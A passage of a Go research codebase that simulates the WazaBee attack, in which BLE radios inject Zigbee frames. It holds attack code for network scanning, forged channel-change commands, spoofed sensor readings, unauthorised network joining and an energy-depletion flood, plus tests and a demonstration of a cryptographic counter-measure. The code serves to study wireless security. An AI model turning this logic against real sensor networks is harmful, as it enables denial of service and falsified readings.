			t.Fatal(err)
		}
	}
	baselineDrain := 1e5 - battery.RemainingMicroJ
	if baselineDrain <= 0 {
		t.Fatal("reporting periods consumed no energy")
	}

	// Attack: the same number of radio events drains much faster.
	before := battery.RemainingMicroJ
	if err := tracker.DepleteEnergy(info, zigbee.DefaultSensor, 20); err != nil {
		t.Fatal(err)
	}
	attackDrain := before - battery.RemainingMicroJ
	if attackDrain < 5*baselineDrain {
		t.Errorf("attack drain %.0f µJ not dominating baseline %.0f µJ", attackDrain, baselineDrain)
	}
}

func TestDepleteEnergyCostsCryptoOnSecuredNetwork(t *testing.T) {
	// The point of [30]: security increases the per-bogus-frame cost.
	drain := func(secured bool) float64 {
		sim := newSim(t, 62)
		if secured {
			if err := sim.Secure([]byte("sixteen byte key"), ieee802154.SecEncMIC32); err != nil {
				t.Fatal(err)
			}
		}
		battery, err := zigbee.NewBattery(1e5)
		if err != nil {
			t.Fatal(err)
		}
		sim.Sensor.Battery = battery
		tracker := newTracker(t, sim)
		info := &NetworkInfo{Channel: zigbee.DefaultChannel, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}
		if err := tracker.DepleteEnergy(info, zigbee.DefaultSensor, 15); err != nil {
			t.Fatal(err)
		}
		return 1e5 - battery.RemainingMicroJ
	}
	open := drain(false)
	secured := drain(true)
	if secured <= open {
		t.Errorf("secured-network drain %.0f µJ not above open-network drain %.0f µJ", secured, open)
	}
}

func TestDepleteEnergyValidation(t *testing.T) {
	sim := newSim(t, 63)
	tracker := newTracker(t, sim)
	if err := tracker.DepleteEnergy(nil, 1, 5); err == nil {
		t.Error("expected error for nil info")
	}
	info := &NetworkInfo{Channel: 14, PAN: 1, Coordinator: 2}
	if err := tracker.DepleteEnergy(info, 1, 0); err == nil {
		t.Error("expected error for zero frames")
	}
}

func TestBatteryValidation(t *testing.T) {
	if _, err := zigbee.NewBattery(0); err == nil {
		t.Error("expected error for zero capacity")
	}
	b, err := zigbee.NewBattery(10)
	if err != nil {
		t.Fatal(err)
	}
	b.Drain(25)
	if !b.Depleted() || b.RemainingMicroJ != 0 {
		t.Errorf("battery = %+v, want depleted at zero", b)
	}
}
