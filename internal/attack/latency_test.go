package attack

import (
	"testing"
	"time"
)

func TestEstimateInjectionDelay(t *testing.T) {
	phone, err := NewSmartphone(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	const advInterval = 20 * time.Millisecond // the API's minimum, per the paper

	delay, events, ok := phone.EstimateInjectionDelay(14, advInterval, 2000)
	if !ok {
		t.Fatal("channel 14 should be reachable")
	}
	if events < 1 || delay != time.Duration(events)*advInterval {
		t.Errorf("delay %v for %d events inconsistent", delay, events)
	}
	// CSA#2 is uniform over 37 channels: hitting one specific channel
	// within 2000 events is essentially certain and typically takes a
	// few dozen.
	if events > 1000 {
		t.Errorf("events until hit = %d, suspiciously high", events)
	}

	// Channels outside Table II are never reachable.
	if _, _, ok := phone.EstimateInjectionDelay(15, advInterval, 2000); ok {
		t.Error("channel 15 has no BLE twin and must be unreachable")
	}
	if _, _, ok := phone.EstimateInjectionDelay(26, advInterval, 2000); ok {
		t.Error("channel 26 maps to an advertising channel and must be unreachable")
	}
}
