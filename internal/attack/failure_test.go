package attack

import (
	"errors"
	"testing"

	"wazabee/internal/chip"
	"wazabee/internal/dsp"
	"wazabee/internal/zigbee"
)

// newTrackerOn builds a tracker over an arbitrary Air (newTracker is
// fixed to the simulation).
func newTrackerOn(t *testing.T, air Air) *Tracker {
	t.Helper()
	model := chip.NRF51822()
	tx, err := model.NewWazaBeeTransmitter(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	rx, err := model.NewWazaBeeReceiver(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	tracker, err := NewTracker(tx, rx, air)
	if err != nil {
		t.Fatal(err)
	}
	return tracker
}

// flakyAir proxies a Simulation and fails every exchange after the
// first n — the radio medium closing mid-attack.
type flakyAir struct {
	inner *zigbee.Simulation
	n     int
	count int
}

var errMediumClosed = errors.New("medium closed")

func (a *flakyAir) Exchange(sig dsp.IQ, channel int) (dsp.IQ, error) {
	a.count++
	if a.count > a.n {
		return nil, errMediumClosed
	}
	return a.inner.Exchange(sig, channel)
}

func (a *flakyAir) Capture(channel int) (dsp.IQ, error) {
	return a.inner.Capture(channel)
}

func TestJoinNetworkQuietChannel(t *testing.T) {
	// The coordinator permits joining — but the attacker asks on a
	// channel where nobody listens, so the association request dies in
	// noise and the join must fail cleanly, not hang or misparse.
	sim := newSim(t, 81)
	sim.Coordinator.PermitJoining = true
	tracker := newTracker(t, sim)
	info := &NetworkInfo{Channel: 22, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}
	if _, err := tracker.JoinNetwork(info); err == nil {
		t.Error("join on a quiet channel reported success")
	}
	if len(sim.Coordinator.Associated) != 0 {
		t.Errorf("quiet-channel join still associated: %v", sim.Coordinator.Associated)
	}
}

func TestJoinNetworkMediumCloses(t *testing.T) {
	sim := newSim(t, 82)
	sim.Coordinator.PermitJoining = true
	air := &flakyAir{inner: sim, n: 0}
	tracker := newTrackerOn(t, air)
	info := &NetworkInfo{Channel: zigbee.DefaultChannel, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}
	if _, err := tracker.JoinNetwork(info); !errors.Is(err, errMediumClosed) {
		t.Errorf("error = %v, want errMediumClosed", err)
	}
}

func TestDepleteEnergyMediumCloses(t *testing.T) {
	sim := newSim(t, 83)
	air := &flakyAir{inner: sim, n: 3}
	tracker := newTrackerOn(t, air)
	info := &NetworkInfo{Channel: zigbee.DefaultChannel, PAN: zigbee.DefaultPAN, Coordinator: zigbee.DefaultCoordinator}
	err := tracker.DepleteEnergy(info, zigbee.DefaultSensor, 10)
	if !errors.Is(err, errMediumClosed) {
		t.Errorf("error = %v, want errMediumClosed", err)
	}
	// The flood must stop at the failed exchange, not push the
	// remaining frames into a dead medium.
	if air.count != 4 {
		t.Errorf("exchanges after medium close = %d, want 4 (3 ok + 1 failed)", air.count)
	}
}

func TestDepletionPayloadDistinctAndSized(t *testing.T) {
	seen := map[string]bool{}
	for i := 0; i < 300; i++ {
		p := DepletionPayload(i)
		if len(p) != 18 {
			t.Fatalf("payload %d length = %d, want 18", i, len(p))
		}
		if seen[string(p)] {
			t.Fatalf("payload %d repeats an earlier payload", i)
		}
		seen[string(p)] = true
	}
}
