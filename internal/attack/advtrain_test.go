package attack

import (
	"testing"

	"wazabee/internal/bitstream"
	"wazabee/internal/ble"
	"wazabee/internal/ieee802154"
)

// TestAdvertiseEventTrain demodulates a full scenario A advertising
// event the way a BLE observer would: receive the ADV_EXT_IND on a
// primary channel at LE 1M, de-whiten it, verify the CRC, follow its
// AuxPtr to the secondary channel, and confirm the auxiliary packet is
// there at LE 2M.
func TestAdvertiseEventTrain(t *testing.T) {
	phone, err := NewSmartphone(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	psdu := appendFCS([]byte{0x41, 0x88, 0x07, 0x34, 0x12, 0x42, 0x00, 0x63, 0x00, 0x01})
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	event, err := phone.AdvertiseEvent(12, ppdu)
	if err != nil {
		t.Fatal(err)
	}
	if event.PrimaryChannels != [3]int{37, 38, 39} {
		t.Errorf("primary channels = %v", event.PrimaryChannels)
	}

	// Demodulate the channel-38 transmission at LE 1M.
	obsPHY, err := ble.NewPHY(ble.LE1M, 2*testSPS)
	if err != nil {
		t.Fatal(err)
	}
	sig, err := event.Primary[1].Pad(100, 60)
	if err != nil {
		t.Fatal(err)
	}
	cap, err := obsPHY.DemodulateFrame(sig, bitstream.Uint32ToBits(ble.AdvAccessAddress), 2)
	if err != nil {
		t.Fatal(err)
	}
	pkt := &ble.Packet{
		AccessAddress: ble.AdvAccessAddress,
		Channel:       38,
		Mode:          ble.LE1M,
		CRCInit:       bitstream.BLEAdvCRCInit,
	}
	pdu, crcOK, err := pkt.ParseAirBits(cap.Bits[32:], len(event.PrimaryPDU))
	if err != nil {
		t.Fatal(err)
	}
	if !crcOK {
		t.Fatal("ADV_EXT_IND CRC failed over the air")
	}

	aux, err := ble.DecodeAuxPtr(pdu)
	if err != nil {
		t.Fatal(err)
	}
	if aux.ChannelIndex != event.AuxChannel {
		t.Errorf("AuxPtr channel = %d, want %d", aux.ChannelIndex, event.AuxChannel)
	}
	if aux.PHY != ble.LE2M {
		t.Errorf("AuxPtr PHY = %v, want LE 2M", aux.PHY)
	}
	if aux.OffsetUsec != event.AuxOffsetUsec {
		t.Errorf("AuxPtr offset = %d, want %d", aux.OffsetUsec, event.AuxOffsetUsec)
	}
	if len(event.Aux) == 0 {
		t.Error("auxiliary waveform missing")
	}
}

// TestAdvertiseEventAuxMatchesOnce confirms the event's auxiliary packet
// equals what AdvertiseOnce emits for the same counter.
func TestAdvertiseEventAuxMatchesOnce(t *testing.T) {
	phone, err := NewSmartphone(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	psdu := appendFCS([]byte{1, 2, 3, 4})
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	event, err := phone.AdvertiseEvent(5, ppdu)
	if err != nil {
		t.Fatal(err)
	}
	aux, ch, err := phone.AdvertiseOnce(5, ppdu)
	if err != nil {
		t.Fatal(err)
	}
	if ch != event.AuxChannel || len(aux) != len(event.Aux) {
		t.Error("AdvertiseEvent aux diverges from AdvertiseOnce")
	}
	if _, err := phone.AdvertiseEvent(5, nil); err == nil {
		t.Error("expected error for nil PPDU")
	}
}
