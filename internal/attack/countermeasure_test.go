package attack

import (
	"testing"

	"wazabee/internal/ieee802154"
	"wazabee/internal/zigbee"
)

// TestScenarioBAgainstSecuredNetwork demonstrates the section VII
// cryptographic counter-measure: on a network using CCM* link-layer
// security, the WazaBee attacker can still scan (beacons are
// unauthenticated) and still learn addresses by eavesdropping (MAC
// headers are cleartext), but its forged AT command and spoofed readings
// are dropped.
func TestScenarioBAgainstSecuredNetwork(t *testing.T) {
	sim := newSim(t, 31)
	if err := sim.Secure([]byte("sixteen byte key"), ieee802154.SecEncMIC64); err != nil {
		t.Fatal(err)
	}
	tracker := newTracker(t, sim)

	// Reconnaissance still works.
	info, err := tracker.ActiveScan(ieee802154.Channels())
	if err != nil {
		t.Fatalf("scan should still work on a secured network: %v", err)
	}
	sensor, err := tracker.Eavesdrop(info, 5)
	if err != nil {
		t.Fatalf("eavesdropping MAC headers should still work: %v", err)
	}
	if sensor != zigbee.DefaultSensor {
		t.Errorf("sensor address = %#04x", sensor)
	}

	// The channel-change injection is rejected: the sensor never
	// applies it and never answers.
	if err := tracker.InjectChannelChange(info, sensor, 25); err == nil {
		t.Error("forged AT command succeeded against a secured sensor")
	}
	if sim.Sensor.Channel != zigbee.DefaultChannel {
		t.Errorf("secured sensor moved to channel %d", sim.Sensor.Channel)
	}

	// Spoofed readings are rejected: no acknowledgement, nothing on the
	// display beyond the sensor's own (sealed) reports.
	before := len(sim.Coordinator.Readings)
	if err := tracker.SpoofData(info, sensor, 6666); err == nil {
		t.Error("spoofed reading acknowledged by a secured coordinator")
	}
	for _, r := range sim.Coordinator.Readings[before:] {
		if r.Value == 6666 {
			t.Error("forged value reached the secured coordinator's display")
		}
	}
}

// TestSecuredNetworkStillOperates confirms the counter-measure does not
// break the legitimate link: sealed readings keep flowing.
func TestSecuredNetworkStillOperates(t *testing.T) {
	sim := newSim(t, 32)
	if err := sim.Secure([]byte("sixteen byte key"), ieee802154.SecEncMIC32); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		if _, err := sim.Step(zigbee.DefaultChannel); err != nil {
			t.Fatal(err)
		}
	}
	if len(sim.Coordinator.Readings) != 3 {
		t.Errorf("secured network delivered %d/3 readings", len(sim.Coordinator.Readings))
	}
}
