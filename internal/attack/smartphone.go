package attack

import (
	"fmt"
	"time"

	"wazabee/internal/bitstream"
	"wazabee/internal/ble"
	"wazabee/internal/core"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
)

// Smartphone is the scenario A attacker: an unrooted Android phone whose
// only radio access is the standard extended-advertising API. It cannot
// pick the secondary advertising channel (Channel Selection Algorithm #2
// does), cannot disable whitening (it pre-compensates instead) and has no
// reception primitive at all (invalid-CRC frames die in the controller).
type Smartphone struct {
	phy     *ble.PHY // LE 2M, secondary advertising
	primary *ble.PHY // LE 1M, primary advertising channels
	csa     *ble.CSA2

	// eventCounter advances with every advertising event, as the
	// controller's does, so successive injections see fresh CSA#2
	// draws.
	eventCounter uint16

	// AdvA, SID, DID and CompanyID populate the advertising PDU fields
	// the OS would fill in.
	AdvA      [6]byte
	SID       uint8
	DID       uint16
	CompanyID uint16
}

// NewSmartphone builds the scenario A attacker on a BLE 5 stack with LE
// 2M secondary advertising.
func NewSmartphone(samplesPerSymbol int) (*Smartphone, error) {
	phy, err := ble.NewPHY(ble.LE2M, samplesPerSymbol)
	if err != nil {
		return nil, err
	}
	// The primary channels run LE 1M: same sample rate, twice the
	// samples per symbol.
	primary, err := ble.NewPHY(ble.LE1M, 2*samplesPerSymbol)
	if err != nil {
		return nil, err
	}
	csa, err := ble.NewCSA2(ble.AdvAccessAddress, nil)
	if err != nil {
		return nil, err
	}
	return &Smartphone{
		phy:       phy,
		primary:   primary,
		csa:       csa,
		AdvA:      [6]byte{0xc0, 0x01, 0xca, 0xfe, 0x42, 0x42},
		SID:       1,
		DID:       0x155,
		CompanyID: 0x0059,
	}, nil
}

// AdvertiseOnce builds one extended-advertising event for the given event
// counter: the controller picks the secondary channel with CSA#2, the
// attacker's app supplies forged manufacturer data, and the AUX_ADV_IND
// is whitened and GFSK-modulated. It returns the waveform and the BLE
// channel it was sent on.
func (s *Smartphone) AdvertiseOnce(eventCounter uint16, ppdu *ieee802154.PPDU) (dsp.IQ, int, error) {
	if ppdu == nil {
		return nil, 0, fmt.Errorf("attack: nil PPDU")
	}
	bleChannel := s.csa.Channel(eventCounter)
	data, err := core.ForgeAdvertisingData(bleChannel, ble.AuxAdvIndOverhead, ppdu)
	if err != nil {
		return nil, 0, err
	}
	pdu, err := ble.BuildAuxAdvInd(s.AdvA, s.SID, s.DID, s.CompanyID, data)
	if err != nil {
		return nil, 0, err
	}
	pkt := &ble.Packet{
		AccessAddress: ble.AdvAccessAddress,
		PDU:           pdu,
		Channel:       bleChannel,
		Mode:          ble.LE2M,
		CRCInit:       bitstream.BLEAdvCRCInit,
	}
	bits, err := pkt.AirBits()
	if err != nil {
		return nil, 0, err
	}
	sig, err := s.phy.ModulateBits(bits)
	if err != nil {
		return nil, 0, err
	}
	return sig, bleChannel, nil
}

// AdvertisingEvent is one complete extended-advertising event as the
// controller emits it: three ADV_EXT_IND transmissions on the primary
// channels at LE 1M, each pointing at the AUX_ADV_IND that follows on
// the CSA#2-selected secondary channel at LE 2M.
type AdvertisingEvent struct {
	// PrimaryChannels and Primary are the three primary-channel
	// transmissions (channels 37, 38, 39).
	PrimaryChannels [3]int
	Primary         [3]dsp.IQ
	// PrimaryPDU is the ADV_EXT_IND payload (identical on all three).
	PrimaryPDU []byte
	// AuxChannel and Aux are the secondary-channel transmission
	// carrying the forged data.
	AuxChannel int
	Aux        dsp.IQ
	// AuxOffsetUsec is the advertised delay to the auxiliary packet.
	AuxOffsetUsec int
}

// AdvertiseEvent builds the full advertising train for one event
// counter. Scenario A only needs the auxiliary packet to reach the
// Zigbee network, but the primary-channel traffic is what a BLE scanner
// — or the watchdog IDS — observes of the attack.
func (s *Smartphone) AdvertiseEvent(eventCounter uint16, ppdu *ieee802154.PPDU) (*AdvertisingEvent, error) {
	aux, bleChannel, err := s.AdvertiseOnce(eventCounter, ppdu)
	if err != nil {
		return nil, err
	}
	event := &AdvertisingEvent{
		PrimaryChannels: [3]int{ble.AdvChannel37, ble.AdvChannel38, ble.AdvChannel39},
		AuxChannel:      bleChannel,
		Aux:             aux,
		AuxOffsetUsec:   330,
	}
	event.PrimaryPDU, err = ble.BuildAdvExtInd(s.SID, s.DID, ble.AuxPtr{
		ChannelIndex: bleChannel,
		OffsetUsec:   event.AuxOffsetUsec,
		PHY:          ble.LE2M,
	})
	if err != nil {
		return nil, err
	}
	for i, ch := range event.PrimaryChannels {
		pkt := &ble.Packet{
			AccessAddress: ble.AdvAccessAddress,
			PDU:           event.PrimaryPDU,
			Channel:       ch,
			Mode:          ble.LE1M,
			CRCInit:       bitstream.BLEAdvCRCInit,
		}
		bits, err := pkt.AirBits()
		if err != nil {
			return nil, err
		}
		event.Primary[i], err = s.primary.ModulateBits(bits)
		if err != nil {
			return nil, err
		}
	}
	return event, nil
}

// EstimateInjectionDelay predicts how long the CSA#2 lottery will make
// the attacker wait before an advertising event lands on the target
// Zigbee channel, given the advertising interval (the paper uses "the
// smallest time interval" the API allows, 20 ms). It returns the delay
// and the number of events, or ok=false when the channel is unreachable
// within maxEvents.
func (s *Smartphone) EstimateInjectionDelay(zigbeeChannel int, advInterval time.Duration, maxEvents int) (time.Duration, int, bool) {
	targetBLE, err := core.BLEChannelFor(zigbeeChannel)
	if err != nil || !ble.IsDataChannel(targetBLE) {
		return 0, 0, false
	}
	counter, ok := s.csa.EventsUntil(targetBLE, s.eventCounter, maxEvents)
	if !ok {
		return 0, 0, false
	}
	events := int(counter-s.eventCounter) + 1
	return time.Duration(events) * advInterval, events, true
}

// InjectFrame repeats advertising events until CSA#2 lands on the BLE
// channel sharing the target Zigbee channel's frequency, then delivers
// the event through the air. It returns the number of advertising events
// consumed. Only the eight Table II channels are reachable this way.
func (s *Smartphone) InjectFrame(air Air, zigbeeChannel int, ppdu *ieee802154.PPDU, maxEvents int) (int, error) {
	targetBLE, err := core.BLEChannelFor(zigbeeChannel)
	if err != nil {
		return 0, err
	}
	if !ble.IsDataChannel(targetBLE) {
		return 0, fmt.Errorf("attack: BLE channel %d for Zigbee channel %d is not a data channel (CSA#2 cannot reach it)", targetBLE, zigbeeChannel)
	}
	for event := 0; event < maxEvents; event++ {
		counter := s.eventCounter
		s.eventCounter++
		sig, bleChannel, err := s.AdvertiseOnce(counter, ppdu)
		if err != nil {
			return event, err
		}
		if bleChannel != targetBLE {
			continue // event went out on a channel nobody we target hears
		}
		if _, err := air.Exchange(sig, zigbeeChannel); err != nil {
			return event, err
		}
		return event + 1, nil
	}
	return maxEvents, fmt.Errorf("attack: CSA#2 did not select BLE channel %d within %d events", targetBLE, maxEvents)
}
