// Package attack implements the two end-to-end attack scenarios of the
// paper on top of the WazaBee primitives: scenario A (injecting 802.15.4
// frames from an unrooted smartphone through the extended-advertising
// API) and scenario B (the four-step Zigbee takeover from a compromised
// BLE tracker).
package attack

import (
	"errors"
	"fmt"

	"wazabee/internal/core"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/zigbee"
)

// Air is the attacker's radio environment: transmit a waveform on an
// 802.15.4 channel and capture the reaction, or listen passively.
// zigbee.Simulation satisfies it.
type Air interface {
	// Exchange transmits sig on the channel and returns the capture of
	// the first victim reply (noise when nothing answers).
	Exchange(sig dsp.IQ, channel int) (dsp.IQ, error)
	// Capture listens on the channel for one victim activity period.
	Capture(channel int) (dsp.IQ, error)
}

// ErrScanFailed is returned when no coordinator answered on any channel.
var ErrScanFailed = errors.New("attack: active scan found no network")

// ErrNoSensorTraffic is returned when eavesdropping saw no sensor data.
var ErrNoSensorTraffic = errors.New("attack: no sensor traffic observed")

// NetworkInfo is what the active scan recovers about the victim network.
type NetworkInfo struct {
	Channel     int
	PAN         uint16
	Coordinator uint16
}

// Tracker is the scenario B attacker: a compromised BLE wearable running
// the WazaBee primitives (on the nRF51822 that means ESB 2M instead of LE
// 2M, with degraded but sufficient reception).
type Tracker struct {
	TX  *core.Transmitter
	RX  *core.Receiver
	Air Air

	// Log receives one structured event per attack step (scan hit,
	// sensor identified, channel change, spoofed reading); nil falls
	// back to the process default logger.
	Log *obs.Logger

	seq uint8
}

// NewTracker wires the attack state machine to its radio primitives.
func NewTracker(tx *core.Transmitter, rx *core.Receiver, air Air) (*Tracker, error) {
	if tx == nil || rx == nil || air == nil {
		return nil, fmt.Errorf("attack: nil transmitter, receiver or air")
	}
	return &Tracker{TX: tx, RX: rx, Air: air}, nil
}

// sendFrame modulates a MAC frame with the WazaBee transmitter and
// exchanges it on the channel, returning the decoded reply (nil when
// nothing decodable came back).
func (t *Tracker) sendFrame(frame *ieee802154.MACFrame, channel int) (*ieee802154.MACFrame, error) {
	psdu, err := frame.Encode()
	if err != nil {
		return nil, err
	}
	sig, err := t.TX.ModulatePSDU(psdu)
	if err != nil {
		return nil, err
	}
	capture, err := t.Air.Exchange(sig, channel)
	if err != nil {
		return nil, err
	}
	return t.decode(capture), nil
}

// decode runs the WazaBee reception primitive over a capture and parses
// the MAC frame, returning nil when nothing decodes cleanly.
func (t *Tracker) decode(capture dsp.IQ) *ieee802154.MACFrame {
	dem, err := t.RX.Receive(capture)
	if err != nil {
		return nil
	}
	frame, err := ieee802154.ParseMACFrame(dem.PPDU.PSDU)
	if err != nil {
		return nil
	}
	return frame
}

// ActiveScan is step 1: broadcast a beacon request on each candidate
// channel and wait for a coordinator's beacon; the first answer yields
// the channel, PAN ID and coordinator address.
func (t *Tracker) ActiveScan(channels []int) (*NetworkInfo, error) {
	for _, ch := range channels {
		t.seq++
		reply, err := t.sendFrame(ieee802154.NewBeaconRequest(t.seq), ch)
		if err != nil {
			return nil, err
		}
		if reply == nil || reply.Type != ieee802154.FrameBeacon {
			continue
		}
		info := &NetworkInfo{Channel: ch, PAN: reply.SrcPAN, Coordinator: reply.SrcAddr}
		obs.OrLogger(t.Log).Info("attack", "active scan found network",
			"channel", ch, "pan", fmt.Sprintf("%#04x", info.PAN),
			"coordinator", fmt.Sprintf("%#04x", info.Coordinator))
		return info, nil
	}
	obs.OrLogger(t.Log).Warn("attack", "active scan found no network", "channels", len(channels))
	return nil, ErrScanFailed
}

// Eavesdrop is step 2: sniff the network channel until a data frame
// destined to the coordinator reveals the sensor's address.
func (t *Tracker) Eavesdrop(info *NetworkInfo, maxPeriods int) (uint16, error) {
	if info == nil {
		return 0, fmt.Errorf("attack: nil network info")
	}
	for i := 0; i < maxPeriods; i++ {
		capture, err := t.Air.Capture(info.Channel)
		if err != nil {
			return 0, err
		}
		frame := t.decode(capture)
		if frame == nil || frame.Type != ieee802154.FrameData {
			continue
		}
		if frame.DestPAN == info.PAN && frame.DestAddr == info.Coordinator {
			obs.OrLogger(t.Log).Info("attack", "eavesdrop identified sensor",
				"sensor", fmt.Sprintf("%#04x", frame.SrcAddr), "periods", i+1)
			return frame.SrcAddr, nil
		}
	}
	obs.OrLogger(t.Log).Warn("attack", "eavesdrop saw no sensor traffic", "periods", maxPeriods)
	return 0, ErrNoSensorTraffic
}

// InjectChannelChange is step 3: forge a remote AT command, spoofing the
// coordinator as source, that moves the sensor to newChannel (a denial of
// service against the sensor-coordinator link [28]). The sensor's AT
// response confirms the takeover.
func (t *Tracker) InjectChannelChange(info *NetworkInfo, sensor uint16, newChannel int) error {
	if info == nil {
		return fmt.Errorf("attack: nil network info")
	}
	if newChannel < ieee802154.FirstChannel || newChannel > ieee802154.LastChannel {
		return fmt.Errorf("attack: channel %d out of range", newChannel)
	}
	t.seq++
	cmd := &zigbee.ATCommand{FrameID: t.seq, Command: "CH", Param: []byte{byte(newChannel)}}
	payload, err := cmd.Encode()
	if err != nil {
		return err
	}
	frame := ieee802154.NewDataFrame(t.seq, info.PAN, sensor, info.Coordinator, payload, false)
	reply, err := t.sendFrame(frame, info.Channel)
	if err != nil {
		return err
	}
	if reply == nil {
		return fmt.Errorf("attack: no AT response from sensor %#04x", sensor)
	}
	resp, err := zigbee.ParseATResponse(reply.Payload)
	if err != nil {
		return fmt.Errorf("attack: unexpected reply to AT command: %w", err)
	}
	if resp.Status != 0 {
		return fmt.Errorf("attack: sensor rejected channel change (status %d)", resp.Status)
	}
	obs.OrLogger(t.Log).Info("attack", "sensor moved off-channel",
		"sensor", fmt.Sprintf("%#04x", sensor), "new_channel", newChannel)
	return nil
}

// SpoofData is step 4: transmit a fake reading, mimicking the silenced
// sensor, and verify the coordinator acknowledged it.
func (t *Tracker) SpoofData(info *NetworkInfo, sensor uint16, value uint16) error {
	if info == nil {
		return fmt.Errorf("attack: nil network info")
	}
	t.seq++
	frame := ieee802154.NewDataFrame(t.seq, info.PAN, info.Coordinator, sensor, zigbee.SensorPayload(value), true)
	reply, err := t.sendFrame(frame, info.Channel)
	if err != nil {
		return err
	}
	if reply == nil || reply.Type != ieee802154.FrameAck || reply.Seq != t.seq {
		return fmt.Errorf("attack: coordinator did not acknowledge spoofed reading")
	}
	obs.OrLogger(t.Log).Info("attack", "spoofed reading acknowledged", "value", value)
	return nil
}

// JoinNetwork associates the attacker with the victim PAN as if it were
// a legitimate device, obtaining a short address from the coordinator —
// network infiltration built from the same two primitives. It fails when
// the coordinator does not permit joining.
func (t *Tracker) JoinNetwork(info *NetworkInfo) (uint16, error) {
	if info == nil {
		return 0, fmt.Errorf("attack: nil network info")
	}
	t.seq++
	req := ieee802154.NewAssociationRequest(t.seq, info.PAN, info.Coordinator, 0x8e)
	reply, err := t.sendFrame(req, info.Channel)
	if err != nil {
		return 0, err
	}
	if reply == nil || reply.Type != ieee802154.FrameCommand {
		return 0, fmt.Errorf("attack: no association response")
	}
	assigned, status, err := ieee802154.ParseAssociationResponse(reply.Payload)
	if err != nil {
		return 0, err
	}
	if status != ieee802154.AssocStatusSuccess {
		return 0, fmt.Errorf("attack: association denied (status %d)", status)
	}
	obs.OrLogger(t.Log).Info("attack", "joined victim network",
		"assigned", fmt.Sprintf("%#04x", assigned))
	return assigned, nil
}

// DepletionPayload builds the i-th garbage payload of the depletion
// flood: sized and tagged to pass for a secured application frame, so
// the victim spends the full receive (and CCM* verification) budget
// before discarding it. Shared by the tracker and the campaign engine's
// energy-depletion scenarios.
func DepletionPayload(i int) []byte {
	return []byte{0x05, byte(i), byte(i >> 8), 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0x00, 0x00, 0x00, 0x00, 0x00}
}

// DepleteEnergy floods the sensor with garbage frames addressed to it —
// the Ghost-in-ZigBee energy-depletion denial of service the paper cites
// ([30]) as remaining possible even on cryptographically secured
// networks: each bogus frame forces the victim to spend receive (and,
// when secured, CCM* verification) energy before it can be discarded.
func (t *Tracker) DepleteEnergy(info *NetworkInfo, sensor uint16, frames int) error {
	if info == nil {
		return fmt.Errorf("attack: nil network info")
	}
	if frames < 1 {
		return fmt.Errorf("attack: frame count %d < 1", frames)
	}
	for i := 0; i < frames; i++ {
		t.seq++
		// Looks secured, fails authentication: maximum victim cost.
		frame := ieee802154.NewDataFrame(t.seq, info.PAN, sensor, info.Coordinator,
			DepletionPayload(i), false)
		frame.Security = true
		if _, err := t.sendFrame(frame, info.Channel); err != nil {
			return err
		}
	}
	return nil
}

// Run executes the full four-step scenario B attack: scan, eavesdrop,
// move the sensor off-channel, then feed the display with fake readings.
func (t *Tracker) Run(scanChannels []int, dosChannel int, fakeValues []uint16) (*NetworkInfo, error) {
	info, err := t.ActiveScan(scanChannels)
	if err != nil {
		return nil, err
	}
	sensor, err := t.Eavesdrop(info, 10)
	if err != nil {
		return info, err
	}
	if err := t.InjectChannelChange(info, sensor, dosChannel); err != nil {
		return info, err
	}
	for _, v := range fakeValues {
		if err := t.SpoofData(info, sensor, v); err != nil {
			return info, err
		}
	}
	return info, nil
}
