package attack

import (
	"errors"
	"testing"

	"wazabee/internal/bitstream"
	"wazabee/internal/chip"
	"wazabee/internal/ieee802154"
	"wazabee/internal/zigbee"
)

const testSPS = 8

func newTracker(t *testing.T, sim *zigbee.Simulation) *Tracker {
	t.Helper()
	model := chip.NRF51822() // the Gablys Lite tracker's radio
	tx, err := model.NewWazaBeeTransmitter(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	rx, err := model.NewWazaBeeReceiver(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	tracker, err := NewTracker(tx, rx, sim)
	if err != nil {
		t.Fatal(err)
	}
	return tracker
}

func newSim(t *testing.T, seed int64) *zigbee.Simulation {
	t.Helper()
	sim, err := zigbee.NewSimulation(seed, testSPS, 25)
	if err != nil {
		t.Fatal(err)
	}
	return sim
}

func TestNewTrackerValidation(t *testing.T) {
	sim := newSim(t, 1)
	model := chip.NRF51822()
	tx, err := model.NewWazaBeeTransmitter(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	rx, err := model.NewWazaBeeReceiver(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := NewTracker(nil, rx, sim); err == nil {
		t.Error("expected error for nil TX")
	}
	if _, err := NewTracker(tx, nil, sim); err == nil {
		t.Error("expected error for nil RX")
	}
	if _, err := NewTracker(tx, rx, nil); err == nil {
		t.Error("expected error for nil air")
	}
}

func TestActiveScanFindsNetwork(t *testing.T) {
	sim := newSim(t, 2)
	tracker := newTracker(t, sim)

	info, err := tracker.ActiveScan(ieee802154.Channels())
	if err != nil {
		t.Fatal(err)
	}
	if info.Channel != zigbee.DefaultChannel {
		t.Errorf("scan channel = %d, want %d", info.Channel, zigbee.DefaultChannel)
	}
	if info.PAN != zigbee.DefaultPAN || info.Coordinator != zigbee.DefaultCoordinator {
		t.Errorf("scan info = %+v", info)
	}
}

func TestActiveScanEmptyBand(t *testing.T) {
	sim := newSim(t, 3)
	// Move the whole network off every scanned channel.
	sim.Sensor.Channel = 26
	sim.Coordinator.Channel = 26
	tracker := newTracker(t, sim)

	_, err := tracker.ActiveScan([]int{11, 12, 13})
	if !errors.Is(err, ErrScanFailed) {
